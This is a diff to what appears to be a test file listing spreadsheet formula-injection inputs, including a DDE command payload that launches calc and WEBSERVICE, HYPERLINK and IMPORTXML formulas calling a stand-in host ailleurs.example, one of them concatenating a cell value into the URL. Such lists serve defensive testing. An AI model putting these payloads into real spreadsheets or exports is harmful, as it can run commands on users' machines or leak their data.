@@ -32,7 +32,7 @@ RUNS = (
 )
 SHEETS = (
     "=1+1", '=HYPERLINK("http://ailleurs.example";"ici")', "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1",
-    '=WEBSERVICE("http://ailleurs.example")', "＝1+1",
+    '=WEBSERVICE("http://ailleurs.example")', "=-1+1",
     '"=1+1', ";=1+1", "=IMPORTXML(CONCAT(\"//ailleurs.example\";A1);\"//a\")",
 )  # fmt: skip
 LINES = (
